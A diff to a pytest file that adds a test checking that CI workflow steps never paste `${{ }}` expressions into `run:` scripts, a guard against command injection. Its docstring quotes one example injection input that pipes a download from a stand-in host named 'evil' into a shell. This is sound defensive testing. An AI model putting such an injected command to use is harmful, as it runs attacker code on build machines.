@@ -33,6 +33,15 @@ def test_the_workflows_do_what_ci_needs():
     assert set(matrix["suite"]) == {p.name for p in (ROOT / "suites").iterdir() if (p / "suite.toml").exists()}
 
 
+@pytest.mark.parametrize("workflow", WORKFLOWS, ids=lambda p: p.name)
+def test_no_expression_is_pasted_into_a_script(workflow):
+    """`${{ ... }}` inside `run:` is substituted into the script's text before the shell reads it,
+    so an input such as `x"; curl evil | sh; "` would run: inputs go through `env:` instead."""
+    for job_name, job in yaml.safe_load(workflow.read_text())["jobs"].items():
+        for step in job.get("steps", []):
+            assert "${{" not in step.get("run", ""), f"{workflow.name}: job {job_name}, step {step.get('name')!r}"
+
+
 @pytest.mark.parametrize("suite", ["local-web", "public-web"])
 @pytest.mark.parametrize("runner", ["reference", "codex", "claude", "pi"])
 def test_the_prepare_job_s_command_plans_every_trial(pytester, suite, runner):
